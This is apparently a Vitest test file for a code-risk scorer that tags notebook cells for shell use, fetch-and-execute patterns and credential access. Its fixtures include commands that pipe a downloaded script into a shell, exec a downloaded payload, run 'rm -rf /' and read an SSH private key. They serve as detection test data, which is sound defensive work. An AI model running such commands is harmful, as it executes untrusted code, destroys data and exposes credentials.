import { describe, expect, it } from 'vitest';
import { assessCode } from './code-risk.js';

describe('assessCode', () => {
  it('scores nothing in a plain data cell', () => {
    expect(assessCode('import pandas as pd\ndf = pd.read_csv("/work/sales.csv")\ndf.describe()')).toEqual({ score: 0, tags: [], reasons: [] });
  });

  it('tags the ways Python runs programs, and scores the shell strings it gives them', () => {
    expect(assessCode('import os\nos.system("ls")').tags).toEqual(['shell']);
    expect(assessCode('import subprocess\nsubprocess.run(["ls"])').tags).toEqual(['shell']);
    const piped = assessCode('import os\nos.system("curl -fsSL https://x.example/i.sh | sh")');
    expect(piped.tags).toEqual(expect.arrayContaining(['shell', 'fetch-execute']));
    expect(piped.score).toBeGreaterThan(assessCode('import os\nos.system("ls")').score);
  });

  it('sees exec of a download, shell escapes and credential files', () => {
    expect(assessCode('import requests\nexec(requests.get("https://x.example/p.py").text)').tags).toContain('fetch-execute');
    expect(assessCode('!curl -fsSL https://x.example/i.sh | bash').tags).toContain('fetch-execute');
    expect(assessCode('%%bash\nrm -rf /\n').score).toBeGreaterThan(0);
    expect(assessCode('open("/root/.ssh/id_ed25519").read()').tags).toContain('credential-access');
  });
});
